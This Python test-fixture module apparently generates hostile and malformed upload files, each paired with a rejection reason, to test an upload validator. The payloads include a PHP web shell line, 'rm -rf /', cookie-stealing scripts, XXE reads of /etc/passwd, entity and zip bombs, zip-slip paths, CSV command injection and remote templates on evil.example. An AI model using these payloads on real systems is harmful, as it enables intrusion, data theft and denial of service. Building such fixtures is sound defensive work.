"""Make hostile, broken and deceiving files of every accepted kind: name -> (name as given, bytes, reason expected)."""

import functools
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable

from PIL import Image

from tests.apps.evidence import benign, hostile_pdfs

Case = tuple[str, bytes, str]
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
ODT_MIME = "application/vnd.oasis.opendocument.text"
NOISE = random.Random(7).randbytes(50_000)


@functools.cache
def corpus() -> dict[str, Case]:
    """Return every case; made once a process, for the bombs take seconds."""
    groups = (
        _names(),
        _foreign(),
        hostile_pdfs.corpus(NOISE),
        _broken_archives(),
        _swelling(),
        _documents() | _sheets(),
        _odfs(),
        _pictures(),
        _texts(),
    )
    return {name: case for group in groups for name, case in group.items()}


def _names() -> dict[str, Case]:
    good = benign.pdf()
    return {
        "no-name": ("", good, "name.empty"),
        "hidden-name": (".pdf", good, "name.empty"),
        "endless-name": ("a" * 300 + ".pdf", good, "name.long"),
        "path-in-name": ("../../etc/laporan.pdf", good, "name.path"),
        "windows-path-in-name": ("C:\\temp\\laporan.pdf", good, "name.path"),
        "null-byte-in-name": ("laporan.pdf\0.png", good, "name.unseen"),
        "line-break-in-name": ("laporan\r\nX: y.pdf", good, "name.unseen"),
        "right-to-left-name": ("laporan\u202efdp.exe.pdf", good, "name.unseen"),
        "exe-inside-name": ("laporan.exe.pdf", good, "name.two-endings"),
        "php-inside-name": ("foto.php.jpg", benign.jpeg(), "name.two-endings"),
        "pdf-then-exe": ("laporan.pdf.exe", good, "type.runs"),
        "no-ending": ("laporan", good, "type.other"),
        "macro-ending": ("anggaran.xlsm", benign.xlsx(), "type.runs"),
        "film-ending": ("rapat.mov", b"\0\0\0\x18ftypqt  " + NOISE, "type.film"),
        "film-cut-short": ("rapat.mp4", benign.film()[:-5], "film.boxes"),
        "film-with-a-tail": ("rapat.mp4", benign.film() + NOISE, "film.boxes"),
        "film-of-noise": ("rapat.mp4", b"\0\0\0\x18ftypmp42" + NOISE, "film.boxes"),
        "film-that-is-an-archive": ("rapat.mp4", benign.film() + archive({"a.txt": "x"}), "two-faced.zip"),
        "film-that-is-a-text": ("rapat.mp4", b"halo\n", "disagrees"),
        "captions-that-are-a-page": ("takarir.vtt", b"<html>WEBVTT</html>", "type.web"),
        "captions-that-are-none": ("takarir.vtt", b"halo\n", "disagrees"),
        "zip-ending": ("semua.zip", benign.docx(), "type.archive"),
        "old-word-ending": ("surat.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NOISE, "type.old-office"),
        "webp-ending": ("foto.webp", b"RIFF\0\0\0\0WEBPVP8 " + NOISE, "type.picture"),
    }


def _foreign() -> dict[str, Case]:
    """Make what is something else than its name says."""
    return {
        "empty": ("kosong.pdf", b"", "empty"),
        "windows-program": ("laporan.pdf", b"MZ\x90\0" + NOISE, "type.program"),
        "linux-program": ("foto.jpg", b"\x7fELF\x02\x01" + NOISE, "type.program"),
        "wasm": ("data.txt", b"\0asm\x01\0\0\0" + NOISE, "type.program"),
        "old-excel-named-xlsx": ("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NOISE, "type.old-office"),
        "rtf-named-docx": ("a.docx", b"{\\rtf1\\ansi halo}", "type.other"),
        "html-named-txt": ("a.txt", b"\n <!DOCTYPE html><script>alert(1)</script>", "type.web"),
        "html-after-a-comment": ("a.txt", b"<!-- x --><html><body onload=alert(1)>", "type.web"),
        "svg-script-named-png": (
            "a.png",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
            "type.web",
        ),
        "svg-billion-laughs": ("a.txt", f"{HEAD}{laughs()}<svg>&a8;</svg>".encode(), "type.web"),
        "php-named-jpg": ("a.jpg", b"<?php system($_GET['c']); ?>", "type.script"),
        "shell-script-named-txt": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "type.script"),
        "mhtml-named-txt": ("a.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related\n", "type.script"),
        "gif-named-png": ("a.png", b"GIF89a\x01\0\x01\0\x80\0\0" + NOISE, "type.picture"),
        "rar-named-pdf": ("a.pdf", b"Rar!\x1a\x07\x01\0" + NOISE, "type.archive"),
        "mp4-named-pdf": ("a.pdf", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + NOISE, "type.film"),
        "font-named-txt": ("a.txt", b"wOFF\0\1\0\0" + NOISE, "type.unknown"),
        "plain-zip-named-docx": ("a.docx", archive({"a.txt": "x"}), "type.foreign-zip"),
        "java-archive-named-xlsx": ("a.xlsx", archive({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), "type.program"),
        "png-named-pdf": ("a.pdf", benign.png(), "disagrees"),
        "docx-named-xlsx": ("a.xlsx", benign.docx(), "disagrees"),
        "pdf-named-docx": ("a.docx", benign.pdf(), "disagrees"),
        "text-named-pdf": ("a.pdf", b"halo\n", "disagrees"),
        "too-large": ("besar.txt", b"x\n" * (26 * 2**20), "large"),
    }


def archive(parts: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return an archive of parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as parcel:
        for name, content in parts.items():
            parcel.writestr(name, content)
    return out.getvalue()


def _office(base: bytes, changes: dict[str, str | bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as parcel:
        parts: dict[str, str | bytes] = {name: parcel.read(name) for name in parcel.namelist()}
    return archive({**parts, **changes})


def _docx(changes: dict[str, str | bytes]) -> bytes:
    return _office(benign.docx(), changes)


def _links(kind: str, target: str) -> dict[str, str | bytes]:
    return {
        "word/_rels/document.xml.rels": f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r9" Type="{benign.LINKS}/{kind}" TargetMode="External" Target="{target}"/>'
        "</Relationships>"
    }


def _patched(change: Callable[[bytearray], None]) -> bytes:
    data = bytearray(benign.docx())
    change(data)
    return bytes(data)


def _each_entry(data: bytearray, mark: bytes, offset: int, kind: str, value: int) -> None:
    at = data.find(mark)
    while at >= 0:
        struct.pack_into(kind, data, at + offset, value)
        at = data.find(mark, at + 4)


def _smaller_than_true(data: bytearray) -> None:
    _each_entry(data, b"PK\x01\x02", 24, "<L", 10)


def _all_at_one_place(data: bytearray) -> None:
    _each_entry(data, b"PK\x01\x02", 42, "<L", 0)


def _said_to_be_locked(data: bytearray) -> None:
    _each_entry(data, b"PK\x01\x02", 8, "<H", 1)


def _endless_directory(data: bytearray) -> None:
    struct.pack_into("<HH", data, data.rfind(b"PK\x05\x06") + 8, 0xFFFF, 0xFFFF)


def _other_name_inside(data: bytearray) -> None:
    at = data.find(b"word/document.xml")
    data[at : at + 4] = b"work"


def _flipped(data: bytearray) -> None:
    at = data.find(b"word/document.xml") + 40
    data[at : at + 20] = bytes(20)


def _linked() -> bytes:
    out = io.BytesIO(benign.docx())
    with zipfile.ZipFile(out, "a") as parcel:
        link = zipfile.ZipInfo("word/tautan")
        link.external_attr = 0o120777 << 16
        parcel.writestr(link, "/etc/passwd")
    return out.getvalue()


def _broken_archives() -> dict[str, Case]:
    good = benign.docx()
    cases = {
        "docx-cut": (good[: len(good) // 2], "zip.broken"),
        "docx-noise": (b"PK\x03\x04" + NOISE, "zip.broken"),
        "docx-noise-with-directory": (b"PK\x03\x04" + NOISE + good[good.rfind(b"PK\x05\x06") :], "zip.broken"),
        "docx-flipped": (_patched(_flipped), "zip.broken"),
        "docx-sizes-lie": (_patched(_smaller_than_true), "zip.lies"),
        "docx-names-lie": (_patched(_other_name_inside), "zip.lies"),
        "docx-overlapping": (_patched(_all_at_one_place), "zip.overlap"),
        "docx-locked-part": (_patched(_said_to_be_locked), "zip.locked"),
        "docx-zip64-lie": (_patched(_endless_directory), "zip.entries"),
        "docx-many-parts": (_docx({f"word/x{n}.xml": "<x/>" for n in range(5000)}), "zip.entries"),
        "docx-bzip2": (archive({"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>"}, 12), "zip.method"),
        "docx-path-upward": (_docx({"../../etc/cron.d/x": "x"}), "zip.names"),
        "docx-absolute-path": (_docx({"/etc/passwd": "x"}), "zip.names"),
        "docx-backslash-path": (_docx({"word\\..\\x": "x"}), "zip.names"),
        "docx-two-names-alike": (_docx({"WORD/document.xml": "<x/>"}), "zip.twice"),
        "docx-symbolic-link": (_linked(), "zip.link"),
    }
    return {name: ("surat.docx", data, reason) for name, (data, reason) in cases.items()}


def _swelling() -> dict[str, Case]:
    chance = random.Random(1)
    block = chance.randbytes(2**13).hex().encode()
    slow = b"".join(block[chance.randrange(2**12) :] * 3 for _ in range(5000))
    flat = b"0" * (120 * 2**20)
    lying = bytearray(_docx({"word/media/x.xml": flat}))
    _smaller_than_true(lying)
    return {
        "bomb-flat": ("a.docx", _docx({"word/x.xml": flat}), "zip.ratio"),
        "bomb-300-mb": ("a.docx", _docx({f"word/x{n}.xml": flat[: 2**20 * 4] for n in range(75)}), "zip.unpacked"),
        "bomb-that-lies": ("a.docx", bytes(lying), "zip.lies"),
        "bomb-slow": ("a.xlsx", _office(benign.xlsx(), {"xl/x.xml": slow, "xl/y.xml": slow}), "zip.unpacked"),
        "bomb-inside-a-chart": ("a.docx", _docx({"word/embeddings/a.xlsx": _inner_bomb()}), "zip.ratio"),
        "endless-links": ("a.docx", _docx({"word/_rels/document.xml.rels": _dull(5)}), "office.large-links"),
    }


def _dull(megabytes: int) -> bytes:
    """Return text that packs well, but not suspiciously well."""
    chance = random.Random(3)
    return b"".join(b"%08x" % chance.randrange(2**20) * 8 for _ in range(megabytes * 2**14))


def _inner_bomb() -> bytes:
    return _office(benign.xlsx(), {"xl/x.xml": b"0" * (100 * 2**20)})


def laughs(count: int = 9) -> str:
    """Return entities that grow tenfold with each line."""
    lines = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, count)]
    return f"<!DOCTYPE x [{''.join(lines)}]>"


def _documents() -> dict[str, Case]:
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'
    quadratic = f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]><x>{"&a;" * 20_000}</x>'
    macro_types = benign.OOXML_TYPES.replace("wordprocessingml.document.main", "ms-word.document.macroEnabled.main")
    template = benign.OOXML_TYPES.replace("document.main+xml", "template.main+xml")
    dde = (
        f'{HEAD}<w:document xmlns:w="w"><w:instrText xml:space="preserve"> DDEAUTO c:\\\\x </w:instrText></w:document>'
    )
    cases: dict[str, tuple[dict[str, str | bytes], str]] = {
        "docx-macros": ({"word/vbaProject.bin": b"x"}, "office.macros"),
        "docx-macro-type": ({"[Content_Types].xml": macro_types}, "office.macros"),
        "docx-template": ({"[Content_Types].xml": template}, "type.template"),
        "docx-activex": ({"word/activeX/activeX1.xml": "<x/>"}, "office.active"),
        "docx-html-part": ({"word/afchunk.html": "<script>1</script>"}, "office.active"),
        "docx-ole": ({"word/embeddings/oleObject1.bin": b"x"}, "office.embedded"),
        "docx-program-as-picture": ({"word/media/image1.png": b"MZ\x90\0"}, "office.embedded"),
        "docx-embedded-pdf": ({"word/embeddings/a.xlsx": b"%PDF-1.4"}, "office.embedded"),
        "docx-three-deep": (
            {"word/embeddings/a.docx": _docx({"word/embeddings/b.xlsx": benign.xlsx()})},
            "office.embedded",
        ),
        "docx-macros-inside-a-chart": (
            {"word/embeddings/a.xlsx": _office(benign.xlsx(), {"xl/vbaProject.bin": b"x"})},
            "office.macros",
        ),
        "docx-remote-template": (_links("attachedTemplate", "http://evil.example/a.dotm"), "office.outside"),
        "docx-remote-picture": (_links("image", "http://evil.example/a.png"), "office.outside"),
        "docx-file-link": (_links("hyperlink", "file://server/share/a.exe"), "office.link"),
        "docx-script-link": (_links("hyperlink", "javascript:alert(1)"), "office.link"),
        "docx-dde": ({"word/document.xml": dde}, "office.dde"),
        "docx-billion-laughs": ({"word/document.xml": f"{HEAD}{laughs()}<x>&a8;</x>"}, "office.entities"),
        "docx-outside-entity": ({"word/document.xml": f"{HEAD}{outside}<x>&a;</x>"}, "office.entities"),
        "docx-remote-doctype": ({"word/settings.xml": f"{HEAD}{remote}<x/>"}, "office.entities"),
        "docx-quadratic": ({"word/styles.xml": HEAD + quadratic}, "office.entities"),
        "docx-entities-in-links": ({"_rels/.rels": f"{HEAD}{laughs()}<x>&a8;</x>"}, "office.entities"),
        "docx-utf16": ({"word/document.xml": f"{laughs()}<x>&a8;</x>".encode("utf-16")}, "office.entities"),
        "docx-broken-links": ({"word/_rels/document.xml.rels": "<Relationships><"}, "office.broken"),
    }
    return {name: ("surat.docx", _docx(parts), why) for name, (parts, why) in cases.items()}


def _sheets() -> dict[str, Case]:
    made: dict[str, Case] = {}
    xlsx: dict[str, str | bytes] = {
        "xl/externalLinks/_rels/externalLink1.xml.rels": _links("externalLinkPath", "anggaran.xlsx")[
            "word/_rels/document.xml.rels"
        ]
    }
    made["xlsx-linked-workbook"] = ("a.xlsx", _office(benign.xlsx(), xlsx), "office.outside")
    made["xlsx-macro-sheet"] = (
        "a.xlsx",
        _office(benign.xlsx(), {"xl/macrosheets/sheet1.xml": "<x/>"}),
        "office.macros",
    )
    made["xlsx-binary"] = ("a.xlsx", archive({"[Content_Types].xml": "<x/>", "xl/workbook.bin": "x"}), "type.template")
    return made


def _odt(changes: dict[str, str | bytes]) -> bytes:
    return _office(benign.odt(), changes)


def _odfs() -> dict[str, Case]:
    picture = '<office:document-content><draw:image xlink:href="http://evil.example/a.png"/></office:document-content>'
    listener = '<o><script:event-listener xlink:href="vnd.sun.star.script:a"/></o>'
    locked = '<m:manifest xmlns:m="m"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
    ole = '<m:manifest xmlns:m="m"><m:file-entry m:media-type="application/vnd.sun.star.oleobject"/></m:manifest>'
    cases: dict[str, tuple[dict[str, str | bytes], str]] = {
        "odt-macros": ({"Basic/Standard/Module1.xml": "<x/>"}, "office.macros"),
        "odt-listener": ({"content.xml": listener}, "office.macros"),
        "odt-remote-picture": ({"content.xml": picture}, "office.outside"),
        "odt-ole": ({"META-INF/manifest.xml": ole}, "office.embedded"),
        "odt-applet": ({"content.xml": "<o><draw:applet/></o>"}, "office.embedded"),
        "odt-dde": ({"content.xml": "<o><text:dde-connection/></o>"}, "office.dde"),
        "odt-password": ({"META-INF/manifest.xml": locked}, "zip.locked"),
        "odt-doctype": ({"content.xml": f"{HEAD}{laughs()}<x>&a8;</x>"}, "office.entities"),
        "odt-template": ({"mimetype": ODT_MIME + "-template"}, "type.template"),
        "odt-other-mimetype": ({"mimetype": "application/epub+zip"}, "type.foreign-zip"),
    }
    return {name: ("surat.odt", _odt(parts), reason) for name, (parts, reason) in cases.items()}


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))


def _png(width: int, height: int, *chunks: bytes, end: bytes = b"") -> bytes:
    frame = _chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + frame + b"".join(chunks) + _chunk(b"IDAT", zlib.compress(b"\0" * 2000)) + end


def _huge_jpeg() -> bytes:
    data = bytearray(benign.jpeg())
    at = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, 60_000, 60_000)
    return bytes(data)


def _plain_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 40), "white").save(out, "PNG")
    return out.getvalue()


def _pictures() -> dict[str, Case]:
    png, jpeg, end = benign.png(), benign.jpeg(), _chunk(b"IEND", b"")
    page = b"<script>alert(document.cookie)</script>"
    note = _chunk(b"zTXt", b"x\0\0" + zlib.compress(b"a" * 9_000_000, 9))
    cases = {
        "png-huge-canvas": ("a.png", _png(100_000, 100_000, end=end), "picture.pixels"),
        "png-one-long-side": ("a.png", _png(2_000_000, 1, end=end), "picture.pixels"),
        "png-cut": ("a.png", png[:-40], "picture.broken"),
        "png-only-a-header": ("a.png", png[:8], "picture.broken"),
        "png-noise": ("a.png", png[:8] + NOISE, "picture.broken"),
        "png-points-missing": ("a.png", _png(4_000, 4_000, end=end), "picture.broken"),
        "png-many-notes": ("a.png", _png(9, 9, *[_chunk(b"tEXt", b"a\0b")] * 300, end=end), "picture.text"),
        "png-swelling-note": ("a.png", _png(9, 9, note, end=end), "picture.broken"),
        "png-and-zip": ("a.png", _plain_png() + benign.docx(), "two-faced.zip"),
        "png-and-page": ("a.png", _plain_png() + page, "two-faced.web"),
        "png-and-program": ("a.png", png + b"MZ This program cannot be run in DOS mode", "two-faced.program"),
        "png-and-pdf": ("a.png", png + benign.pdf(), "two-faced.program"),
        "jpeg-huge-canvas": ("a.jpg", _huge_jpeg(), "picture.pixels"),
        "jpeg-cut": ("a.jpg", jpeg[: len(jpeg) // 2], "picture.broken"),
        "jpeg-noise": ("a.jpeg", b"\xff\xd8\xff\xe0" + NOISE + b"\xff\xd9", "picture.broken"),
        "jpeg-and-zip": ("a.jpg", jpeg + archive({"a.txt": "x"}), "two-faced.zip"),
        "jpeg-with-a-page-in-its-notes": ("a.jpg", _noted_jpeg(page), "two-faced.web"),
    }
    return dict(cases)


def _noted_jpeg(note: bytes) -> bytes:
    jpeg = benign.jpeg()
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(note) + 2) + note + jpeg[2:]


def _texts() -> dict[str, Case]:
    return {
        "csv-utf16": ("a.csv", "kode,nilai\n".encode("utf-16"), "text.nul"),
        "csv-latin": ("a.csv", "kota,é\n".encode("latin-1"), "text.bytes"),
        "txt-noise": ("a.txt", b"x" + NOISE.replace(b"\0", b""), "text.bytes"),
        "txt-nul": ("a.txt", b"halo\0dunia\n", "text.nul"),
        "txt-controls": ("a.txt", b"halo\x08\x08\x07\n", "text.controls"),
        "txt-one-endless-line": ("a.txt", b"x" * (3 * 2**20), "text.line"),
        "csv-command": ("a.csv", b"kode,nilai\n1,=cmd|' /C calc'!A0\n", "text.formula"),
        "csv-command-quoted": ("a.csv", b"kode,nilai\n1,\"@SUM(1)*cmd|' /C calc'!A0\"\n", "text.formula"),
    }


def pieces(data: bytes, size: int) -> Iterable[bytes]:
    """Cut bytes into pieces, as a browser would send them."""
    return (data[at : at + size] for at in range(0, len(data), size))
